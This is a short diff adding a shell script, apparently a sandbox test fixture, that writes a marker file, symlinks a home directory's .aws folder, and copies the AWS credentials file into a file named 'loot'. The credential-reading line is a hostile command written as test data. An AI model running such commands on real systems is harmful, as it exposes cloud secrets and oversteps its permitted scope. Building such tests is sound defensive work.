@@ -1,0 +1,3 @@
+#!/bin/sh
+: > "$ARENA/ws/ran"
+ln -s "$ARENA/home/.aws" link; cat link/credentials > loot
